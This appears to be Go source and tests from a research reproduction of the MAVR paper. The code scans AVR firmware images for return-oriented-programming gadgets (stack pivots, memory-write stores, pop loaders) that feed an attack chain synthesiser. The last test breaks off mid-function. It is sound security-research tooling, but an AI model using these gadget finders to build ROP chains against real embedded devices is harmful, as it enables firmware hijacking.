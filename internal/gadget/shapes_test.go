package gadget_test

import (
	"testing"

	"mavr/internal/firmware"
	"mavr/internal/gadget"
)

// The shape enumerators must rediscover the canonical Fig. 4/5 gadgets
// the exact-pattern finders locate in the generated firmware — the
// canonical gadgets are just the best-known members of their shape
// classes.
func TestShapesCoverCanonicalGadgets(t *testing.T) {
	img, err := firmware.Generate(firmware.TestApp(), firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	gs := gadget.Scan(img.Flash, 24)

	sm, err := gadget.FindStkMove(img.Flash)
	if err != nil {
		t.Fatal(err)
	}
	pivots := gadget.PivotShapes(gs)
	if len(pivots) == 0 {
		t.Fatal("no pivot shapes in testapp image")
	}
	foundPivot := false
	for _, p := range pivots {
		if p.Addr == sm.Addr {
			foundPivot = true
			if p.SPHReg != sm.SPHReg || p.SPLReg != sm.SPLReg || len(p.PopRegs) != len(sm.PopRegs) {
				t.Errorf("pivot shape at 0x%X = %+v, want canonical %+v", p.Addr, p, sm)
			}
		}
	}
	if !foundPivot {
		t.Errorf("canonical stk_move at 0x%X missing from %d pivot shapes", sm.Addr, len(pivots))
	}

	wm, err := gadget.FindWriteMem(img.Flash, 5)
	if err != nil {
		t.Fatal(err)
	}
	runs := gadget.StoreRuns(gs)
	foundRun := false
	for _, r := range runs {
		if r.Addr == wm.StoreAddr {
			foundRun = true
			if r.QBase != 1 || r.StoreRegs != wm.StoreRegs || r.TailAddr != wm.PopsAddr {
				t.Errorf("store run at 0x%X = %+v, want canonical %+v", r.Addr, r, wm)
			}
		}
	}
	if !foundRun {
		t.Errorf("canonical write_mem store at 0x%X missing from %d store runs", wm.StoreAddr, len(runs))
	}

	chains := gadget.PopChains(gs)
	foundLoader := false
	for _, c := range chains {
		if c.Addr == wm.PopsAddr && len(c.PopRegs) == len(wm.PopRegs) {
			foundLoader = true
		}
	}
	if !foundLoader {
		t.Errorf("canonical pop half at 0x%X missing from %d pop chains", wm.PopsAddr, len(chains))
	}
}

// A store run at a non-canonical displacement base (std Y+5..Y+7) with
// a tail that does not reload Y is invisible to FindWriteMem but must
// be enumerated by StoreRuns with its QBase, so synthesis can aim Y at
// Addr-QBase and compose a loader from a separate pop chain.
func TestStoreRunsGeneralizedDisplacement(t *testing.T) {
	img := assemble(t, `
		ijmp
		std Y+5, r10
		std Y+6, r11
		std Y+7, r12
		pop r4
		ret
		pop r29
		pop r28
		pop r12
		pop r11
		pop r10
		ret
	`)
	gs := gadget.Scan(img, 16)
	runs := gadget.StoreRuns(gs)
	if len(runs) != 1 {
		t.Fatalf("StoreRuns = %d entries, want 1 (%+v)", len(runs), runs)
	}
	r := runs[0]
	if r.Addr != 1 || r.QBase != 5 || r.StoreRegs != [3]int{10, 11, 12} {
		t.Errorf("run = %+v, want addr 1 qbase 5 regs 10..12", r)
	}
	if len(r.TailPops) != 1 || r.TailPops[0] != 4 {
		t.Errorf("tail pops = %v, want [4]", r.TailPops)
	}
	chains := gadget.PopChains(gs)
	var loader *gadget.PopChain
	for _, c := range chains {
		if len(c.PopRegs) == 5 {
			loader = c
		}
	}
	if loader == nil {
		t.Fatalf("no 5-pop loader chain in %+v", chains)
	}
	for _, reg := range []int{28, 29, 10, 11, 12} {
		if loader.PopOffset(reg) < 0 {
			t.Errorf("loader misses r%d: %+v", reg, loader)
		}
	}
}

// A four-long store run must yield exactly one entry — the last three
// stores — because entering earlier widens the write.
func TestStoreRunsMaximalRunAlignment(t *testing.T) {
	img := assemble(t, `
		ijmp
		std Y+1, r5
		std Y+2, r6
		std Y+3, r7
		std Y+4, r8
		pop r28
		ret
	`)
	runs := gadget.StoreRuns(gadget.Scan(img, 16))
	if len(runs) != 1 {
		t.Fatalf("StoreRuns = %d entries, want 1 (%+v)", len(runs), runs)
	}
	if runs[0].Addr != 2 || runs[0].QBase != 2 || runs[0].StoreRegs != [3]int{6, 7, 8} {
		t.Errorf("run = %+v, want the last three stores (addr 2, qbase 2, r6..r8)", runs[0])
	}
}

// Pivot shapes tolerate the interrupt-safe SREG restore between the SP
// writes and require at least one pop before ret.
func TestPivotShapesSregHop(t *testing.T) {
	img := assemble(t, `
		ijmp
		out 0x3e, r29
		out 0x3f, r0
		out 0x3d, r28
		pop r17
		pop r16
		ret
		out 0x3e, r25
		out 0x3d, r24
		ret
	`)
	pivots := gadget.PivotShapes(gadget.Scan(img, 16))
	if len(pivots) != 1 {
		t.Fatalf("PivotShapes = %d entries, want 1 (no-pop pivot must be rejected): %+v", len(pivots), pivots)
	}
	p := pivots[0]
	if p.Addr != 1 || p.SPHReg != 29 || p.SPLReg != 28 || len(p.PopRegs) != 2 {
		t.Errorf("pivot = %+v, want addr 1, r29/r28, 2 pops", p)
	}
}

// Shape enumeration on an empty or gadget-free image is empty, not an
// error — synthesis reports the exhausted search space itself.
func TestShapesEmptyImage(t *testing.T) {
	if got := gadget.PivotShapes(nil); len(got) != 0 {
		t.Errorf("PivotShapes(nil) = %v", got)
	}
	img := assemble(t, `
		nop
		inc r24
		ret
	`)
	gs := gadget.Scan(img, 8)
	if got := gadget.PivotShapes(gs); len(got) != 0 {
		t.Errorf("PivotShapes = %v, want none", got)
	}
	if got := gadget.StoreRuns(gs); len(got) != 0 {
		t.Errorf("StoreRuns = %v, want none", got)
	}
	if got := gadget.PopChains(gs); len(got) != 0 {
		t.Errorf("PopChains = %v, want none", got)
	}
}
