package gadget

import (
	"sort"

	"mavr/internal/avr"
)

// Shape enumeration: where FindStkMove/FindWriteMem locate the paper's
// two canonical gadgets (Fig. 4/5) by exact pattern match, the
// functions in this file enumerate *every* entry point in a Scan result
// that has the required effect, following the functional-gadget framing
// of "Return-Oriented Programming on RISC-V": a gadget is anything that
// realizes a role (pivot the stack, store through a pointer, load
// registers), not just the one idiom the compiler emits most often.
// Chain synthesis (internal/attack) searches over these candidate sets
// against the emulator instead of trusting a single hand-matched shape.
//
// Entry points are word addresses *inside* scanned gadgets: execution
// may enter a ret-terminated sequence at any instruction boundary, so
// one scanned gadget can contribute several shaped entries.

// StoreRun is a write-primitive entry point: executing from Addr
// performs exactly three stores through the Y pointer at consecutive
// displacements QBase..QBase+2, then pops TailPops and returns. Unlike
// the canonical Fig. 5 match it does not require QBase == 1 or that the
// tail reloads Y — a loader can be composed from a separate pop chain.
type StoreRun struct {
	// Addr is the word address of the first std Y+QBase instruction.
	Addr uint32
	// TailAddr is the word address just past the stores (the run's own
	// pop tail, possibly empty).
	TailAddr uint32
	// QBase is the Y displacement of the first store: the written bytes
	// land at Y+QBase, Y+QBase+1, Y+QBase+2.
	QBase int
	// StoreRegs are the registers stored, in displacement order.
	StoreRegs [3]int
	// TailPops are the registers the run's own tail pops before ret.
	TailPops []int
}

// PopChain is a register-loader entry point: executing from Addr pops
// PopRegs in order and returns.
type PopChain struct {
	Addr    uint32
	PopRegs []int
}

// PivotShapes enumerates every stk_move-shaped entry point in a scan:
// out SPH, (optional SREG restore,) out SPL, one or more pops, ret.
// Results are deduplicated and sorted by ascending pop-tail length then
// address (the attacker spends one chain byte per tail pop).
func PivotShapes(gs []*Gadget) []*StkMove {
	var out []*StkMove
	seen := make(map[uint32]bool)
	for _, g := range gs {
		w := g.Addr
		for i := 0; i < len(g.Instrs); i++ {
			in := g.Instrs[i]
			if in.Op == avr.OpOUT && in.A == avr.IOAddrSPH {
				if sm := pivotAt(g, i, w); sm != nil && !seen[sm.Addr] {
					seen[sm.Addr] = true
					out = append(out, sm)
				}
			}
			w += uint32(in.Words)
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if len(out[i].PopRegs) != len(out[j].PopRegs) {
			return len(out[i].PopRegs) < len(out[j].PopRegs)
		}
		return out[i].Addr < out[j].Addr
	})
	return out
}

// pivotAt matches the pivot shape starting at instruction index i of g
// (known to be out SPH), whose word address is w.
func pivotAt(g *Gadget, i int, w uint32) *StkMove {
	sm := &StkMove{Addr: w, SPHReg: g.Instrs[i].D}
	j := i + 1
	// Allow an SREG restore between the SP writes (the avr-gcc
	// interrupt-safe idiom), as FindStkMove does.
	for j < len(g.Instrs) && g.Instrs[j].Op == avr.OpOUT && g.Instrs[j].A == avr.IOAddrSREG {
		j++
	}
	if j >= len(g.Instrs) || g.Instrs[j].Op != avr.OpOUT || g.Instrs[j].A != avr.IOAddrSPL {
		return nil
	}
	sm.SPLReg = g.Instrs[j].D
	for j++; j < len(g.Instrs)-1; j++ {
		if g.Instrs[j].Op != avr.OpPOP {
			return nil
		}
		sm.PopRegs = append(sm.PopRegs, g.Instrs[j].D)
	}
	if len(sm.PopRegs) == 0 || g.Instrs[len(g.Instrs)-1].Op != avr.OpRET {
		return nil
	}
	return sm
}

// StoreRuns enumerates every 3-store write entry point in a scan: the
// last three stores of each maximal run of consecutive-displacement
// std Y+q instructions, provided everything between the stores and the
// ret is pops (side-effect free for the chain). Sorted by ascending
// tail length then address.
func StoreRuns(gs []*Gadget) []*StoreRun {
	var out []*StoreRun
	seen := make(map[uint32]bool)
	for _, g := range gs {
		w := g.Addr
		for i := 0; i < len(g.Instrs); i++ {
			in := g.Instrs[i]
			if in.Op == avr.OpSTDY {
				if sr := storeRunAt(g, i, w); sr != nil && !seen[sr.Addr] {
					seen[sr.Addr] = true
					out = append(out, sr)
				}
			}
			w += uint32(in.Words)
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if len(out[i].TailPops) != len(out[j].TailPops) {
			return len(out[i].TailPops) < len(out[j].TailPops)
		}
		return out[i].Addr < out[j].Addr
	})
	return out
}

// storeRunAt matches a maximal consecutive-displacement store run
// beginning at instruction index i of g (known to be std Y+q) at word
// address w, and returns its last-three-stores entry when the run is at
// least three long and only pops separate it from the ret.
func storeRunAt(g *Gadget, i int, w uint32) *StoreRun {
	// Only consider maximal runs: a std immediately before this one with
	// the preceding displacement means i is an interior entry the run's
	// own candidate already covers.
	if i > 0 && g.Instrs[i-1].Op == avr.OpSTDY && g.Instrs[i-1].Q == g.Instrs[i].Q-1 {
		return nil
	}
	j := i
	for j+1 < len(g.Instrs) && g.Instrs[j+1].Op == avr.OpSTDY && g.Instrs[j+1].Q == g.Instrs[j].Q+1 {
		j++
	}
	n := j - i + 1
	if n < 3 {
		return nil
	}
	var tail []int
	for k := j + 1; k < len(g.Instrs)-1; k++ {
		if g.Instrs[k].Op != avr.OpPOP {
			return nil
		}
		tail = append(tail, g.Instrs[k].D)
	}
	if g.Instrs[len(g.Instrs)-1].Op != avr.OpRET {
		return nil
	}
	// Enter at the third-from-last store so exactly three bytes are
	// written; earlier entries would widen the write.
	first := j - 2
	sr := &StoreRun{
		Addr:      w + uint32(first-i), // stds are one word each
		TailAddr:  w + uint32(j+1-i),
		QBase:     g.Instrs[first].Q,
		StoreRegs: [3]int{g.Instrs[first].D, g.Instrs[first+1].D, g.Instrs[first+2].D},
		TailPops:  tail,
	}
	return sr
}

// PopChains enumerates every pure register-loader entry point: the
// longest all-pop suffix of each gadget (before the ret). The pop half
// of a Fig. 5 write_mem gadget appears here, as does every function
// epilogue. Sorted by descending pop count then address (a loader is
// useful in proportion to the registers it controls).
func PopChains(gs []*Gadget) []*PopChain {
	var out []*PopChain
	seen := make(map[uint32]bool)
	for _, g := range gs {
		n := len(g.Instrs)
		if n < 2 || g.Instrs[n-1].Op != avr.OpRET {
			continue
		}
		// Find the longest all-pop suffix ending at the ret.
		start := n - 1
		for start-1 >= 0 && g.Instrs[start-1].Op == avr.OpPOP {
			start--
		}
		if start == n-1 {
			continue
		}
		w := g.Addr
		for i := 0; i < start; i++ {
			w += uint32(g.Instrs[i].Words)
		}
		pc := &PopChain{Addr: w}
		for i := start; i < n-1; i++ {
			pc.PopRegs = append(pc.PopRegs, g.Instrs[i].D)
		}
		if seen[pc.Addr] {
			continue
		}
		seen[pc.Addr] = true
		out = append(out, pc)
	}
	sort.Slice(out, func(i, j int) bool {
		if len(out[i].PopRegs) != len(out[j].PopRegs) {
			return len(out[i].PopRegs) > len(out[j].PopRegs)
		}
		return out[i].Addr < out[j].Addr
	})
	return out
}

// PopOffset returns the index within the chain's pop data at which
// register r is loaded, or -1.
func (p *PopChain) PopOffset(r int) int {
	for i, reg := range p.PopRegs {
		if reg == r {
			return i
		}
	}
	return -1
}
