// Package gadget implements the ROP-gadget discovery the MAVR paper's
// attacker performs on the unprotected application binary (§IV): a scan
// for ret-terminated instruction sequences, plus pattern matchers for
// the two specific gadgets the stealthy attack needs — stk_move
// (Fig. 4) and write_mem_gadget (Fig. 5).
//
// AVR instructions are 16-bit aligned, so candidate gadget starts are
// scanned at every word offset — including the interiors of two-word
// instructions, which yields unintended sequences exactly as on real
// hardware.
package gadget

import (
	"errors"
	"fmt"
	"runtime"
	"sync"

	"mavr/internal/avr"
)

// Kind classifies a gadget by its most useful effect.
type Kind int

// Gadget kinds.
const (
	// KindPopChain only pops registers before ret.
	KindPopChain Kind = iota + 1
	// KindStkMove writes the stack pointer from r28/r29 (out 0x3d/0x3e)
	// — the paper's SP-pivot primitive.
	KindStkMove
	// KindWriteMem stores registers through the Y pointer (std Y+q)
	// before popping — the paper's arbitrary-write primitive.
	KindWriteMem
	// KindOther is any other ret-terminated sequence.
	KindOther
)

func (k Kind) String() string {
	switch k {
	case KindPopChain:
		return "pop-chain"
	case KindStkMove:
		return "stk_move"
	case KindWriteMem:
		return "write_mem"
	}
	return "other"
}

// Gadget is one ret-terminated instruction sequence.
type Gadget struct {
	// Addr is the word address of the first instruction.
	Addr uint32
	// Instrs is the decoded sequence, ending in ret.
	Instrs []avr.Instr
	// Kind is the classification of the sequence.
	Kind Kind
}

// Words returns the gadget length in words.
func (g *Gadget) Words() int {
	n := 0
	for _, in := range g.Instrs {
		n += in.Words
	}
	return n
}

const retWord = 0x9508

// minParallelWords is the image size (in words) below which a sharded
// scan is not worth the goroutine setup.
const minParallelWords = 16 * 1024

// Scan finds one gadget per ret instruction in image: the longest valid
// suffix of at most maxWords words that decodes cleanly into the ret
// with no intervening control transfer. The resulting count is the
// "gadgets found" figure of §VII-A.
//
// Large images are sharded across goroutines by flash region. Each
// shard owns the ret words inside its word range but reads the whole
// image when walking back from a ret, so sequences crossing a shard
// boundary — including the interiors of two-word instructions — are
// covered exactly as in a sequential scan. Shard results are merged in
// address order, so the output is byte-identical to a sequential scan.
func Scan(image []byte, maxWords int) []*Gadget {
	words := len(image) / 2
	shards := runtime.GOMAXPROCS(0)
	if words < minParallelWords || shards <= 1 {
		return scanRange(image, 0, words, maxWords)
	}
	return scanSharded(image, maxWords, shards)
}

// scanSharded runs the region-sharded scan with an explicit shard
// count (Scan picks GOMAXPROCS; tests pin it to cross-check against
// the sequential scan).
func scanSharded(image []byte, maxWords, shards int) []*Gadget {
	words := len(image) / 2
	chunk := (words + shards - 1) / shards
	results := make([][]*Gadget, shards)
	var wg sync.WaitGroup
	for i := 0; i < shards; i++ {
		lo := i * chunk
		hi := lo + chunk
		if hi > words {
			hi = words
		}
		if lo >= hi {
			break
		}
		wg.Add(1)
		go func(i, lo, hi int) {
			defer wg.Done()
			results[i] = scanRange(image, lo, hi, maxWords)
		}(i, lo, hi)
	}
	wg.Wait()
	var out []*Gadget
	for _, r := range results {
		out = append(out, r...)
	}
	return out
}

// scanRange scans the ret words in word range [lo, hi), reading the
// full image for the backward suffix walk. The decode window and
// fallthrough table are reused across rets to keep the loop
// allocation-free.
func scanRange(image []byte, lo, hi, maxWords int) []*Gadget {
	var out []*Gadget
	win := make([]avr.Instr, maxWords)
	ok := make([]bool, maxWords+1)
	for w := lo; w < hi; w++ {
		if wordAt(image, uint32(w)) != retWord {
			continue
		}
		g := longestSuffix(image, uint32(w), maxWords, win, ok)
		if g != nil {
			out = append(out, g)
		}
	}
	return out
}

// CountByKind tallies a scan result per classification.
func CountByKind(gs []*Gadget) map[Kind]int {
	m := make(map[Kind]int, 4)
	for _, g := range gs {
		m[g.Kind]++
	}
	return m
}

// longestSuffix finds the longest chain of valid instructions starting
// at or before ret (word address) that ends exactly at ret.
//
// Each of the maxWords window positions is decoded exactly once and
// the fallthrough property is computed backwards: position i falls
// through onto ret iff its instruction is valid straight-line code and
// decoding resumes either exactly at ret or at a position that itself
// falls through. The longest suffix is then the earliest such start —
// the same answer as re-decoding every candidate range, at O(maxWords)
// instead of O(maxWords²) decodes per ret.
//
// win and ok are caller-provided scratch of lengths maxWords and
// maxWords+1.
func longestSuffix(image []byte, ret uint32, maxWords int, win []avr.Instr, ok []bool) *Gadget {
	maxBack := maxWords
	if uint32(maxBack) > ret {
		maxBack = int(ret)
	}
	base := ret - uint32(maxBack)
	// ok[i] reports whether decoding from word base+i lands exactly on
	// ret; index maxBack is ret itself.
	ok[maxBack] = true
	best := -1
	for i := maxBack - 1; i >= 0; i-- {
		in := avr.DecodeAt(image, base+uint32(i))
		win[i] = in
		e := i + in.Words
		ok[i] = straightLine(in.Op) && e <= maxBack && ok[e]
		if ok[i] {
			best = i
		}
	}
	if best < 0 {
		// A bare ret is still a (useless) gadget.
		return &Gadget{Addr: ret, Instrs: []avr.Instr{{Op: avr.OpRET, Words: 1}}, Kind: KindOther}
	}
	seq := make([]avr.Instr, 0, maxBack-best+1)
	for i := best; i < maxBack; i += win[i].Words {
		seq = append(seq, win[i])
	}
	seq = append(seq, avr.Instr{Op: avr.OpRET, Words: 1})
	return &Gadget{Addr: base + uint32(best), Instrs: seq, Kind: classify(seq)}
}

// straightLine reports whether op can appear inside a gadget body: any
// valid instruction that is not a control transfer (a transfer before
// the ret means the sequence never reaches it).
func straightLine(op avr.Op) bool {
	switch op {
	case avr.OpInvalid,
		avr.OpRET, avr.OpRETI, avr.OpJMP, avr.OpRJMP, avr.OpIJMP,
		avr.OpEIJMP, avr.OpCALL, avr.OpRCALL, avr.OpICALL, avr.OpEICALL,
		avr.OpBRBS, avr.OpBRBC, avr.OpBREAK, avr.OpSLEEP:
		return false
	}
	return true
}

func classify(seq []avr.Instr) Kind {
	var (
		wroteSPL, wroteSPH bool
		stores, pops, rest int
	)
	for _, in := range seq[:len(seq)-1] {
		switch in.Op {
		case avr.OpOUT:
			switch in.A {
			case avr.IOAddrSPL:
				wroteSPL = true
			case avr.IOAddrSPH:
				wroteSPH = true
			case avr.IOAddrSREG:
			default:
				rest++
			}
		case avr.OpSTDY:
			stores++
		case avr.OpPOP:
			pops++
		default:
			rest++
		}
	}
	switch {
	case wroteSPL && wroteSPH && pops > 0:
		return KindStkMove
	case stores > 0 && pops > 0:
		return KindWriteMem
	case pops > 0 && rest == 0:
		return KindPopChain
	default:
		return KindOther
	}
}

// StkMove locates the paper's Fig. 4 gadget: consecutive writes of
// r29/r28 into SPH/SPL followed by pops and ret.
type StkMove struct {
	// Addr is the word address of the "out 0x3e, r29" instruction.
	Addr uint32
	// SPHReg and SPLReg are the registers written to SPH and SPL.
	SPHReg, SPLReg int
	// PopRegs are the registers popped between the SP write and ret, in
	// pop order.
	PopRegs []int
}

// WriteMem locates the paper's Fig. 5 combination gadget: three
// std Y+1..3 stores of r5..r7 followed by a long pop chain and ret.
type WriteMem struct {
	// StoreAddr is the word address of "std Y+1, r5" (first half).
	StoreAddr uint32
	// PopsAddr is the word address of the first pop (second half). The
	// attack uses the second half first, to load registers.
	PopsAddr uint32
	// StoreRegs are the registers stored to Y+1, Y+2, Y+3.
	StoreRegs [3]int
	// PopRegs are the popped registers in pop order.
	PopRegs []int
}

// Gadget-search errors.
var (
	ErrNoStkMove  = errors.New("gadget: no stk_move gadget in image")
	ErrNoWriteMem = errors.New("gadget: no write_mem gadget in image")
)

// FindStkMove scans image for a Fig. 4-shaped gadget, preferring the
// candidate with the shortest pop tail (the attacker wants to spend as
// few chain bytes as possible per pivot).
func FindStkMove(image []byte) (*StkMove, error) {
	var best *StkMove
	words := len(image) / 2
	for w := 0; w < words; w++ {
		in := avr.DecodeAt(image, uint32(w))
		if in.Op != avr.OpOUT || in.A != avr.IOAddrSPH {
			continue
		}
		g := &StkMove{Addr: uint32(w), SPHReg: in.D}
		pc := uint32(w) + 1
		// Allow an SREG restore between the SP writes (the avr-gcc
		// interrupt-safe idiom) before the SPL write.
		for hops := 0; hops < 2; hops++ {
			next := avr.DecodeAt(image, pc)
			if next.Op == avr.OpOUT && next.A == avr.IOAddrSREG {
				pc++
				continue
			}
			break
		}
		splIn := avr.DecodeAt(image, pc)
		if splIn.Op != avr.OpOUT || splIn.A != avr.IOAddrSPL {
			continue
		}
		pc++
		pops, end := popRun(image, pc)
		if len(pops) == 0 {
			continue
		}
		if avr.DecodeAt(image, end).Op != avr.OpRET {
			continue
		}
		g.SPLReg = splIn.D
		g.PopRegs = pops
		if best == nil || len(g.PopRegs) < len(best.PopRegs) {
			best = g
		}
	}
	if best == nil {
		return nil, ErrNoStkMove
	}
	return best, nil
}

// FindWriteMem scans image for a Fig. 5-shaped gadget. minPops sets the
// minimum pop-chain length (the paper's gadget pops 16 registers; the
// attack needs at least r29, r28 and the three stored registers in the
// chain).
func FindWriteMem(image []byte, minPops int) (*WriteMem, error) {
	words := len(image) / 2
	for w := 0; w < words; w++ {
		in := avr.DecodeAt(image, uint32(w))
		if in.Op != avr.OpSTDY || in.Q != 1 {
			continue
		}
		in2 := avr.DecodeAt(image, uint32(w)+1)
		in3 := avr.DecodeAt(image, uint32(w)+2)
		if in2.Op != avr.OpSTDY || in2.Q != 2 || in3.Op != avr.OpSTDY || in3.Q != 3 {
			continue
		}
		pops, end := popRun(image, uint32(w)+3)
		if len(pops) < minPops {
			continue
		}
		if avr.DecodeAt(image, end).Op != avr.OpRET {
			continue
		}
		g := &WriteMem{
			StoreAddr: uint32(w),
			PopsAddr:  uint32(w) + 3,
			StoreRegs: [3]int{in.D, in2.D, in3.D},
			PopRegs:   pops,
		}
		// The pop chain must reload Y (r28/r29) and the stored regs so
		// the attack can chain pops -> stores.
		if !contains(pops, 28) || !contains(pops, 29) ||
			!contains(pops, g.StoreRegs[0]) || !contains(pops, g.StoreRegs[1]) || !contains(pops, g.StoreRegs[2]) {
			continue
		}
		return g, nil
	}
	return nil, ErrNoWriteMem
}

// PopOffset returns the byte offset within the gadget's pop data at
// which register r is loaded, or -1.
func (g *WriteMem) PopOffset(r int) int {
	for i, p := range g.PopRegs {
		if p == r {
			return i
		}
	}
	return -1
}

// PopOffset returns the byte offset within the stk_move tail's pop data
// at which register r is loaded, or -1.
func (g *StkMove) PopOffset(r int) int {
	for i, p := range g.PopRegs {
		if p == r {
			return i
		}
	}
	return -1
}

func popRun(image []byte, pc uint32) (regs []int, end uint32) {
	for {
		in := avr.DecodeAt(image, pc)
		if in.Op != avr.OpPOP {
			return regs, pc
		}
		regs = append(regs, in.D)
		pc++
	}
}

func contains(s []int, v int) bool {
	for _, x := range s {
		if x == v {
			return true
		}
	}
	return false
}

func wordAt(image []byte, w uint32) uint16 {
	i := int(w) * 2
	if i+1 >= len(image) {
		return 0xFFFF
	}
	return uint16(image[i]) | uint16(image[i+1])<<8
}

// Describe renders a gadget summary line.
func (g *Gadget) Describe() string {
	return fmt.Sprintf("%6x: %-9s (%d instrs)", g.Addr*2, g.Kind, len(g.Instrs))
}
