package gadget

import (
	"math/rand"
	"reflect"
	"testing"
)

// randomImage builds a deterministic pseudo-random flash image large
// enough to cross the parallel-scan threshold, with ret words scattered
// through it so every shard owns gadgets and sequences straddle shard
// boundaries.
func randomImage(words int) []byte {
	rng := rand.New(rand.NewSource(42))
	img := make([]byte, words*2)
	rng.Read(img)
	for w := 7; w < words; w += 251 {
		img[w*2] = byte(retWord & 0xFF)
		img[w*2+1] = byte(retWord >> 8)
	}
	return img
}

// The sharded scan must return exactly the sequential scan's result for
// any shard count: same gadgets, same order, same decoded sequences —
// including gadgets whose suffix walk crosses a shard boundary or
// starts inside a two-word instruction.
func TestScanShardedMatchesSequential(t *testing.T) {
	img := randomImage(minParallelWords * 3)
	const maxWords = 12
	want := scanRange(img, 0, len(img)/2, maxWords)
	if len(want) == 0 {
		t.Fatal("sequential scan found no gadgets; image generator broken")
	}
	for _, shards := range []int{2, 3, 4, 7, 16} {
		got := scanSharded(img, maxWords, shards)
		if len(got) != len(want) {
			t.Fatalf("shards=%d: %d gadgets, sequential found %d", shards, len(got), len(want))
		}
		for i := range want {
			if !reflect.DeepEqual(got[i], want[i]) {
				t.Fatalf("shards=%d: gadget %d differs:\n got %+v\nwant %+v", shards, i, got[i], want[i])
			}
		}
	}
}

// Concurrent sharded scans over a shared image must be race-free (run
// under -race in CI). The image is read-only; each shard owns its own
// scratch and result slice.
func TestScanShardedConcurrentReaders(t *testing.T) {
	img := randomImage(minParallelWords * 2)
	done := make(chan []*Gadget, 4)
	for i := 0; i < 4; i++ {
		go func() { done <- scanSharded(img, 10, 4) }()
	}
	first := <-done
	for i := 0; i < 3; i++ {
		if got := <-done; len(got) != len(first) {
			t.Fatalf("concurrent scans disagree: %d vs %d gadgets", len(got), len(first))
		}
	}
}
