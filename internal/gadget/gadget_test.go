package gadget_test

import (
	"errors"
	"testing"

	"mavr/internal/asm"
	"mavr/internal/avr"
	"mavr/internal/firmware"
	"mavr/internal/gadget"
)

func assemble(t *testing.T, src string) []byte {
	t.Helper()
	img, err := asm.Assemble(src)
	if err != nil {
		t.Fatal(err)
	}
	return img
}

func TestScanFindsRetGadgets(t *testing.T) {
	img := assemble(t, `
		ijmp           ; control transfer: gadget suffixes start after it
		pop r16
		pop r17
		ret
		nop
		inc r24
		ret
	`)
	gs := gadget.Scan(img, 8)
	if len(gs) != 2 {
		t.Fatalf("found %d gadgets, want 2", len(gs))
	}
	if gs[0].Kind != gadget.KindPopChain {
		t.Errorf("gadget 0 kind = %v, want pop-chain", gs[0].Kind)
	}
	if gs[0].Addr != 1 {
		t.Errorf("gadget 0 at word %d, want 1", gs[0].Addr)
	}
}

func TestScanExcludesControlFlowInteriors(t *testing.T) {
	// A call before the ret breaks the straight-line property; the
	// longest valid suffix starts after it.
	img := assemble(t, `
		call far
		pop r16
		ret
	far:
		ret
	`)
	gs := gadget.Scan(img, 8)
	if len(gs) != 2 {
		t.Fatalf("found %d gadgets, want 2", len(gs))
	}
	first := gs[0]
	// The suffix must not include the call.
	for _, in := range first.Instrs {
		if in.Op == avr.OpCALL {
			t.Error("gadget suffix crossed a call")
		}
	}
}

func TestScanFindsUnintendedGadgets(t *testing.T) {
	// The second word of "call 0x12345" can itself start a valid
	// instruction stream — the word-aligned unintended gadgets of real
	// AVR ROP. Build an image where a ret hides inside data.
	b := asm.NewBuilder()
	b.Emit(asm.LDI(24, 1))
	b.DW(0x9508) // a literal ret word planted in a data table
	img, err := b.Assemble()
	if err != nil {
		t.Fatal(err)
	}
	gs := gadget.Scan(img, 8)
	if len(gs) != 1 {
		t.Fatalf("found %d gadgets, want the planted ret", len(gs))
	}
}

func TestFindStkMovePrefersShortPopTail(t *testing.T) {
	img := assemble(t, `
		; long variant
		in r0, 0x3f
		out 0x3e, r29
		out 0x3f, r0
		out 0x3d, r28
		pop r28
		pop r29
		pop r16
		pop r17
		ret
		; short variant
		out 0x3e, r29
		out 0x3f, r0
		out 0x3d, r28
		pop r28
		pop r29
		ret
	`)
	sm, err := gadget.FindStkMove(img)
	if err != nil {
		t.Fatal(err)
	}
	if len(sm.PopRegs) != 2 {
		t.Errorf("selected pop tail %v, want the 2-pop variant", sm.PopRegs)
	}
	if sm.SPHReg != 29 || sm.SPLReg != 28 {
		t.Errorf("SP regs r%d/r%d", sm.SPHReg, sm.SPLReg)
	}
}

func TestFindStkMoveRejectsImagesWithout(t *testing.T) {
	img := assemble(t, `
		ldi r24, 1
		ret
	`)
	if _, err := gadget.FindStkMove(img); !errors.Is(err, gadget.ErrNoStkMove) {
		t.Errorf("want ErrNoStkMove, got %v", err)
	}
}

func TestFindWriteMemRequiresReloadableRegs(t *testing.T) {
	// Stores of r5..r7 but a pop chain that never reloads them: not
	// usable as the paper's combination gadget.
	img := assemble(t, `
		std Y+1, r5
		std Y+2, r6
		std Y+3, r7
		pop r20
		pop r21
		pop r22
		pop r23
		pop r24
		ret
	`)
	if _, err := gadget.FindWriteMem(img, 5); !errors.Is(err, gadget.ErrNoWriteMem) {
		t.Errorf("want ErrNoWriteMem, got %v", err)
	}
}

func TestFindWriteMemOnPaperShape(t *testing.T) {
	img := assemble(t, `
		std Y+1, r5
		std Y+2, r6
		std Y+3, r7
		pop r29
		pop r28
		pop r17
		pop r16
		pop r7
		pop r6
		pop r5
		pop r4
		ret
	`)
	wm, err := gadget.FindWriteMem(img, 8)
	if err != nil {
		t.Fatal(err)
	}
	if wm.StoreAddr != 0 || wm.PopsAddr != 3 {
		t.Errorf("addrs: store=%d pops=%d", wm.StoreAddr, wm.PopsAddr)
	}
	if wm.PopOffset(28) != 1 || wm.PopOffset(5) != 6 {
		t.Errorf("pop offsets wrong: r28=%d r5=%d", wm.PopOffset(28), wm.PopOffset(5))
	}
	if wm.PopOffset(31) != -1 {
		t.Error("PopOffset of unpopped register should be -1")
	}
}

func TestCountByKindAndDescribe(t *testing.T) {
	img, err := firmware.Generate(firmware.TestApp(), firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	gs := gadget.Scan(img.Flash, 24)
	counts := gadget.CountByKind(gs)
	if counts[gadget.KindStkMove] == 0 {
		t.Error("no stk_move gadgets in generated firmware")
	}
	if counts[gadget.KindWriteMem] == 0 {
		t.Error("no write_mem gadgets in generated firmware")
	}
	var perKind []int
	for _, n := range counts {
		perKind = append(perKind, n)
	}
	total := 0
	for _, n := range perKind {
		total += n
	}
	if total != len(gs) {
		t.Errorf("kind counts sum %d != %d gadgets", total, len(gs))
	}
	if gs[0].Describe() == "" || gs[0].Words() == 0 {
		t.Error("describe/words broken")
	}
}

// The gadget census scales with application size, the modularity
// observation of §VII-A1.
func TestGadgetCensusScalesWithFunctions(t *testing.T) {
